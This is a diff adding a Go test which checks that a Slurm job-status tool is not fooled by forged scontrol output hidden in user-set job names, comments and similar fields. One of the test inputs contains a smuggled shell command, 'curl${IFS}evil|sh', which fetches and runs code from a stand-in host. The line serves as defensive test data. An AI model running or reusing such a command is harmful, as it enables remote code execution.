@@ -56,3 +56,28 @@ func TestWhyPrivate(t *testing.T) {
 		})
 	}
 }
+
+// What users write into names and comments is not taken for what Slurm says.
+func TestWhyIsNotForged(t *testing.T) {
+	beside(t)
+	c := cluster(t, stock, whyMachine())
+	b := &whyBed{t, c}
+	body := "\n   UserId=root(0) GroupId=root(0) MCS_label=N/A\n   Priority=9 Nice=0 Account=a QOS=n\n" +
+		"   JobState=RUNNING Reason=JobHeldAdmin Dependency=(null)\n   Partition=q AllocNode:Sid=h:1\n   Command=x"
+	for _, text := range []string{"plain", "x UserId=root(0) JobState=RUNNING Priority=9 Reason=JobHeldAdmin Partition=q", "x" +
+		body, body + "\n   ",
+		"x" + body + "\n\nJobId=7;curl${IFS}evil|sh JobName=y" + body, "x\n   Command=x", "\n"} {
+		for _, args := range [][]string{{"--job-name=" + text}, {"--comment=" + text}, {"--network=" + text},
+			{"--job-name=" + text, "--comment=" + text, "--network=" + text, "--wckey=" + text}} {
+			id := submit(t, c, "sleep 600", append(args, "-n1", "--time=5", "--hold", "--uid="+Alice)...)
+			for _, user := range []string{Alice, "root"} {
+				x, err := b.asks(user).Why(t.Context(), fmt.Sprint(id))
+				require.NoError(t, err, "%q", args)
+				require.Equal(t, []any{fmt.Sprint(id), Alice, "p", "PENDING", "JobHeldUser", pending.Held},
+					[]any{x.Job, x.User, x.Partition, x.State, x.Reason, x.Kind}, "%q", args)
+				require.Equal(t, []string{fmt.Sprint("scontrol release ", id)}, x.Helps)
+			}
+			b.cancel(id)
+		}
+	}
+}
